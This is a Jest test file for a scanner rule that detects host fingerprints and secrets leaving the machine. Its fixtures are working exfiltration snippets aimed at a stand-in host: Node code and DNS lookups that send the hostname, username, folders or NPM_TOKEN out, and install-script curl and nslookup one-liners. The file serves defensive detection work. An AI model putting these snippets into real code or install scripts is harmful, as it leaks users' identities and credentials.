import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('EXF-005 a fingerprint of the host leaves the machine', () => {
  it.each([
    [
      'names and folders in one request',
      `const os = require('os'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, c: process.cwd() });
       const r = require('https').request({ host: 'x.example.invalid' }); r.write(d); r.end();`,
    ],
    [
      'them in an address',
      'const os = require("os"); fetch(`https://x.example.invalid/${os.hostname()}/${process.env.USER}`);',
    ],
    [
      'one in a name that is looked up',
      `const os = require('os'); require('dns').lookup(os.userInfo().username + '.x.example.invalid', () => {});`,
    ],
    [
      'a secret in a name that is looked up',
      `require('dns').resolve4(process.env.NPM_TOKEN + '.x.example.invalid', () => {});`,
    ],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('EXF-005', js(source))).toEqual(['high index.js']);
  });

  it.each([
    [
      'a host name in a log',
      `console.log(require('os').hostname(), process.cwd()); fetch('https://api.example.invalid');`,
    ],
    [
      'one fact alone',
      `fetch('https://api.example.invalid', { body: JSON.stringify({ host: require('os').hostname() }) });`,
    ],
    ['looking up the own name', `require('dns').lookup(require('os').hostname(), () => {});`],
    [
      'what a file at home holds',
      `const d = require('fs').readFileSync(require('os').homedir() + '/' + process.env.USER); fetch('https://api.example.invalid', { body: d });`,
    ],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('EXF-005', js(source))).toEqual([]);
  });

  it.each([
    ['nslookup $(whoami).a.example.invalid'],
    ['curl "https://a.example.invalid/?u=$USER&h=`hostname`"'],
    ['hostname | curl -d @- https://a.example.invalid'],
  ])('finds it in an install script: %s', (install) => {
    expect(hitsOf('EXF-005', manifest({ scripts: { install } }))).toEqual(['high package.json']);
  });

  it('passes a download for the system at hand', () => {
    const install = 'curl -o tool https://a.example.invalid/tool-$(uname -s)';
    expect(hitsOf('EXF-005', manifest({ scripts: { install } }))).toEqual([]);
  });
});
